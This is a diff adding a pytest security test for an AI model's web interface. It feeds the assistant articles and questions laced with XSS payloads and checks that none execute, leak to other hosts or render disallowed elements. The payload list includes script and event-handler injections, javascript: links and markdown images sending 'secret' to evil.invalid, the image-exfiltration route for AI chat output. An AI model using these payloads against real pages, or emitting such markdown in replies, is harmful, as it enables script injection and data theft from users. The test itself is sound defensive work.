@@ -1,0 +1,118 @@
+"""Text that would like to be code stays text, wherever an article can put it."""
+
+import json
+from collections.abc import Callable, Iterator
+from contextlib import AbstractContextManager
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from assistant import Assistant
+from index.types import Article
+
+OWN_PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(2)>",
+    "<svg/onload=alert(3)>",
+    '"><iframe src="javascript:alert(4)">',
+    "![x](http://evil.invalid/?q=secret)",
+    "![x](/gradio_api/file=http://evil.invalid/?q=secret)",
+    "[click](javascript:alert(5))",
+    "<a href=javascript:alert(6)>x</a>",
+    "<form action=http://evil.invalid><input name=q>",
+    '<div style="background:url(http://evil.invalid/a)">',
+    "<video autoplay src=http://evil.invalid/v></video>",
+    "${alert(7)} {{constructor.constructor('alert(8)')()}}",
+    "</textarea></title></script><script>alert(9)</script>",
+    "<style>@import 'http://evil.invalid/s.css';</style>",
+    '<math><mi//xlink:href="data:x,<script>alert(10)</script>">',
+    "$$\\href{javascript:alert(11)}{x}$$ `code` **bold** | a | b |",
+]
+PAYLOADS_AN_ARTICLE = 8
+ASKED = 12
+ALLOWED_ELEMENTS = {
+    *("A", "DIV", "H2", "H3", "LI", "MARK", "P", "PROGRESS", "SPAN", "STRONG", "UL"),
+}
+FIND_ELEMENTS = """selector => [...new Set([...document.querySelectorAll(selector)]
+    .flatMap(one => [...one.querySelectorAll('*')]).map(one => one.tagName))]"""
+SHOWN = (".question", ".answer", ".note", "#source-content", ".articles", "#outcome .md")
+
+
+@pytest.fixture(scope="module")
+def payloads(request: pytest.FixtureRequest) -> list[str]:
+    """Our own, and the shared lists where they are there."""
+    folder = Path(__file__).parents[3] / "shared" / "data" / "security"
+    if not folder.is_dir():
+        return OWN_PAYLOADS
+    lines = (folder / "xss.txt").read_text(encoding="utf-8").splitlines()
+    naughty = json.loads((folder / "blns.json").read_text(encoding="utf-8"))
+    return OWN_PAYLOADS + [one for one in [*lines, *naughty] if one.strip()]
+
+
+def hostile_articles(payloads: list[str]) -> Iterator[Article]:
+    for start in range(0, len(payloads), PAYLOADS_AN_ARTICLE):
+        part = payloads[start : start + PAYLOADS_AN_ARTICLE]
+        text = "\n\n".join(
+            f"Payload {start + n} says {one} and ends." for n, one in enumerate(part)
+        )
+        title, source, url, author, name = (part[n % len(part)] for n in range(5))
+        yield Article(f"{start} {name}", title, text, source, url, None, author)
+
+
+@pytest.fixture(scope="module")
+def hostile(
+    served: Callable[[Assistant], AbstractContextManager[str]],
+    chromium: str,
+    payloads: list[str],
+    tmp_path_factory: pytest.TempPathFactory,
+) -> Iterator[str]:
+    """The page of an assistant that has read nothing but hostile articles."""
+    with Assistant.open(tmp_path_factory.mktemp("hostile")) as assistant:
+        report = assistant.ingest_articles(hostile_articles(payloads))
+        assert report.failures == ()
+        with served(assistant) as address:
+            yield address
+
+
+@pytest.fixture
+def target(visit: Callable[..., Any], hostile: str) -> Iterator[Any]:
+    """A visitor to whom nothing may have happened at the end."""
+    visitor = visit(hostile)
+    yield visitor
+    own = visitor.address.split("/")[2]
+    assert visitor.dialogs == []
+    assert visitor.hosts == {own}
+    assert [url for url in visitor.requests if "file=" in url or "proxy=" in url] == []
+    # A script that the policy had to stop would have been markup already.
+    assert visitor.problems == []
+    for selector in SHOWN:
+        assert set(visitor.page.evaluate(FIND_ELEMENTS, selector)) <= ALLOWED_ELEMENTS
+
+
+def test_articles_listed_and_opened(target: Any) -> None:
+    page = target.page
+    page.locator("#articles-button").click()
+    rows = page.locator("#listing .open")
+    titles = rows.locator(".title").all_text_contents()
+    for number, title in enumerate(titles):
+        if number:
+            page.locator("#articles-button").click()
+        target.open_source(rows.nth(number))
+        assert page.locator("#source-content h2").text_content() == title
+    assert titles
+
+
+def test_payloads_asked_and_cited(target: Any, payloads: list[str]) -> None:
+    for number, payload in enumerate(payloads[:ASKED]):
+        reply = target.ask(f"What does payload {number} say about {payload}?")
+        if reply.locator("a.cite").count():
+            target.open_source(reply.locator("a.cite").first)
+    assert target.page.locator("#chat .question").count() == ASKED
+
+
+def test_names_of_uploaded_files(target: Any, tmp_path: Path) -> None:
+    hostile_name = tmp_path / "<img src=x onerror=alert(1)>.bin"
+    hostile_name.write_bytes(b"\0\1\2")
+    outcome = target.upload(hostile_name)
+    assert "1 file failed" in (outcome.text_content() or "")
